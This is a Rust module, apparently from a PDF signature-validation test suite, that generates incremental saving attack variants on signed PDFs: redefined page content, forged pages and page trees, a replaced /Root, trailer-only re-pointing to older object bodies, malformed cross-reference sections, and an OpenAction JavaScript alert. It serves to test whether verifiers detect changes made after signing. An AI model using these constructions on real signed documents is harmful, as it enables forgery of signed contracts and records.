//! Incremental saving attacks (Mladenov et al., CCS 2019 §5): a revision appended after the
//! signature changes what the document shows, while the signed revision still hashes. Also
//! the malformed updates a lenient reader would still apply: a trailer-only update that
//! re-points objects or `/Root`, objects without a cross-reference section, and a
//! cross-reference section with wrong offsets.

use lopdf::{Dictionary, Object};

use super::base::Base;
use super::update::{XrefMode, serialize, stream};
use super::{Class, Update, Variant, appended, overlay};

pub(super) fn variants(base: &Base) -> Vec<Variant> {
    let content = content_redefined(base);
    let mut out: Vec<Variant> = [
        content
            .clone()
            .and_then(|u| appended(base, "isa/page-content-redefined", Class::Isa, &u)),
        page_added(base).and_then(|u| appended(base, "isa/page-added", Class::Isa, &u)),
        catalog_open_action(base)
            .and_then(|u| appended(base, "isa/catalog-open-action", Class::Isa, &u)),
        catalog_new_pages(base)
            .and_then(|u| appended(base, "isa/catalog-new-page-tree", Class::Isa, &u)),
        root_replaced(base).and_then(|u| appended(base, "isa/root-replaced", Class::Isa, &u)),
        repoint_older_body(base).and_then(|u| {
            appended(
                base,
                "isa/trailer-only/repoint-to-older-body",
                Class::Isa,
                &u,
            )
        }),
        root_to_older_catalog(base).and_then(|u| {
            appended(
                base,
                "isa/trailer-only/root-to-older-catalog",
                Class::Isa,
                &u,
            )
        }),
        root_to_page(base)
            .and_then(|u| appended(base, "isa/trailer-only/root-to-page", Class::Isa, &u)),
    ]
    .into_iter()
    .flatten()
    .collect();
    for (name, mode) in [
        ("isa/objects-without-xref", XrefMode::Omitted),
        ("isa/xref-wrong-offsets", XrefMode::Shifted(7)),
    ] {
        if let Some(mut u) = content.clone() {
            u.xref = mode;
            out.extend(appended(base, name, Class::Isa, &u));
        }
    }
    if base.tail.as_ref().is_some_and(|t| t.stream)
        && let Some(mut u) = content
    {
        u.xref = XrefMode::Table;
        out.extend(appended(
            base,
            "isa/table-after-xref-stream",
            Class::Isa,
            &u,
        ));
    }
    out
}

/// The first page's first content stream redefined with visible new text.
pub(super) fn content_redefined(base: &Base) -> Option<Update> {
    let (num, generation) = base.first_content()?;
    let data = overlay(base.first_font().as_deref());
    Some(Update::new().object(num, generation, stream("", &data)))
}

/// A new page appended to the page tree the first page hangs from.
fn page_added(base: &Base) -> Option<Update> {
    let (_, page_dict) = base.first_page()?;
    let parent = page_dict.get(b"Parent").ok()?.as_reference().ok()?;
    let mut pages = base.object(parent)?.as_dict().ok()?.clone();
    let n = base.next_num();
    let mut kids = pages.get(b"Kids").ok()?.as_array().ok()?.clone();
    kids.push(Object::Reference((n, 0)));
    let count = pages.get(b"Count").ok()?.as_i64().ok()?;
    pages.set("Kids", kids);
    pages.set("Count", count + 1);
    Some(
        Update::new()
            .object(parent.0, parent.1, serialize(&Object::Dictionary(pages)))
            .object(n, 0, new_page(parent, n + 1))
            .object(n + 1, 0, stream("", &overlay(None))),
    )
}

/// A page dictionary with one content stream `contents`.
fn new_page(parent: (u32, u16), contents: u32) -> Vec<u8> {
    format!(
        "<< /Type /Page /Parent {} {} R /MediaBox [0 0 595 842] /Resources << >> /Contents {contents} 0 R >>",
        parent.0, parent.1
    )
    .into_bytes()
}

/// The catalog redefined with `change` applied.
fn catalog_with(base: &Base, change: impl FnOnce(&mut Dictionary, u32)) -> Option<Update> {
    let (id, catalog) = base.catalog()?;
    let mut catalog = catalog.clone();
    change(&mut catalog, base.next_num());
    Some(Update::new().object(id.0, id.1, serialize(&Object::Dictionary(catalog))))
}

fn open_action() -> Object {
    let mut js = Dictionary::new();
    js.set("S", Object::Name(b"JavaScript".to_vec()));
    js.set(
        "JS",
        Object::string_literal("app.alert('diubah setelah ditandatangani')"),
    );
    Object::Dictionary(js)
}

fn catalog_open_action(base: &Base) -> Option<Update> {
    catalog_with(base, |c, _| c.set("OpenAction", open_action()))
}

/// The catalog pointed at a new page tree with one forged page.
fn catalog_new_pages(base: &Base) -> Option<Update> {
    let n = base.next_num();
    let u = catalog_with(base, |c, n| c.set("Pages", Object::Reference((n, 0))))?;
    Some(
        u.object(
            n,
            0,
            format!("<< /Type /Pages /Kids [{} 0 R] /Count 1 >>", n + 1),
        )
        .object(n + 1, 0, new_page((n, 0), n + 2))
        .object(n + 2, 0, stream("", &overlay(None))),
    )
}

/// A new catalog object with a new number, and the trailer's `/Root` moved to it.
fn root_replaced(base: &Base) -> Option<Update> {
    let (_, catalog) = base.catalog()?;
    let mut catalog = catalog.clone();
    catalog.set("OpenAction", open_action());
    let n = base.next_num();
    let mut u = Update::new().object(n, 0, serialize(&Object::Dictionary(catalog)));
    u.root = Some(format!("{n} 0 R"));
    Some(u)
}

/// An object of the signed bytes that has an older raw body, the catalog first; with the
/// offset of its oldest body.
fn older_body(base: &Base) -> Option<(u32, u16, usize)> {
    let limit = base.signed_end()?.min(base.bytes.len());
    let catalog = base.catalog().map(|(id, _)| id.0);
    let headers = super::lex::headers(base.bytes, limit);
    let mut candidates: Vec<u32> = catalog.into_iter().collect();
    candidates.extend(headers.iter().map(|h| h.num));
    candidates.into_iter().find_map(|num| {
        let bodies: Vec<_> = headers.iter().filter(|h| h.num == num).collect();
        (bodies.len() >= 2).then(|| (num, bodies[0].generation, bodies[0].offset))
    })
}

/// Cross-reference section + trailer only: an object re-pointed at its older body.
fn repoint_older_body(base: &Base) -> Option<Update> {
    let (num, generation, offset) = older_body(base)?;
    let mut u = Update::new();
    u.repoint.push((num, generation, offset));
    Some(u)
}

/// Cross-reference section + trailer only: a new number for the older catalog body, and
/// `/Root` moved to it.
fn root_to_older_catalog(base: &Base) -> Option<Update> {
    let (catalog, _) = base.catalog()?;
    let (_, _, offset) = older_body(base).filter(|o| o.0 == catalog.0)?;
    let n = base.next_num();
    let mut u = Update::new();
    u.repoint.push((n, 0, offset));
    u.root = Some(format!("{n} 0 R"));
    Some(u)
}

/// Trailer only: `/Root` moved to the first page.
fn root_to_page(base: &Base) -> Option<Update> {
    let (page, _) = base.first_page()?;
    let mut u = Update::new();
    u.root = Some(format!("{} {} R", page.0, page.1));
    Some(u)
}
